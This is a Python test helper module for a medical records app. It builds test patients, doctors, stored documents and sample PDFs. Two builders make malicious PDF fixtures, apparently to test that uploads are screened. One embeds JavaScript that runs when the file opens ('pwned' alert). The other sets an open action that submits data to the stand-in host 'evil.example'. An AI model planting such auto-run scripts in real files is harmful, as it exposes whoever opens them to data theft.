"""Small builders for tests of any app: a patient, a doctor, a stored document, real PDFs
(plain code, no pytest: see tests/test_test_helpers.py)."""

from __future__ import annotations

import io
from datetime import date
from itertools import count

from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from vigie.accounts.models import Role, User
from vigie.records.identifiers import nir_key
from vigie.records.ingest import DocumentMeta, ingest
from vigie.records.models import Document, Patient

_seq = count(1)


def make_patient(family_name: str = "DURAND", *, with_ins: bool = True) -> Patient:
    n = next(_seq)
    body = f"2850375{n:03d}{n % 1000:03d}"
    return Patient.objects.create(
        ipp=f"IPP{n:07d}",
        ins=f"{body}{nir_key(body):02d}" if with_ins else None,
        family_name=family_name,
        given_names="Camille",
        birth_date=date(1985, 3, 14),
        sex="F",
    )


def make_doctor(username: str = "dr.test") -> User:
    return User.objects.create_user(username=f"{username}{next(_seq)}", role=Role.DOCTOR)


def make_document(patient: Patient, content: bytes = b"%PDF-1.4 test", **meta: object) -> Document:
    fields: dict[str, object] = {
        "kind": "lab_result",
        "title": "Numération formule sanguine",
        "clinical_date": date(2026, 11, 2),
        "source_system": "LABO-TEST",
        "author": "Dr Biologiste",
    }
    fields.update(meta)
    return ingest(patient, DocumentMeta(**fields), io.BytesIO(content))  # type: ignore[arg-type]


def lab_report_pdf() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    page.drawString(72, 800, "Laboratoire Test - Numeration formule sanguine")
    page.drawString(72, 780, "Hemoglobine 13.2 g/dL (12.0-16.0)")
    page.showPage()
    page.save()
    return buffer.getvalue()


VALID_PDF = lab_report_pdf()


def pdf_writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(VALID_PDF)))


def pdf_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_document_javascript() -> bytes:
    # pypdf 7 removed add_js(); add_open_action() is its replacement: document-level
    # JavaScript in the catalog's /Names tree, run when the file opens.
    writer = pdf_writer()
    writer.add_open_action(JavaScript("app.alert('pwned');"))
    return pdf_bytes(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = pdf_writer()
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example/');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return pdf_bytes(writer)
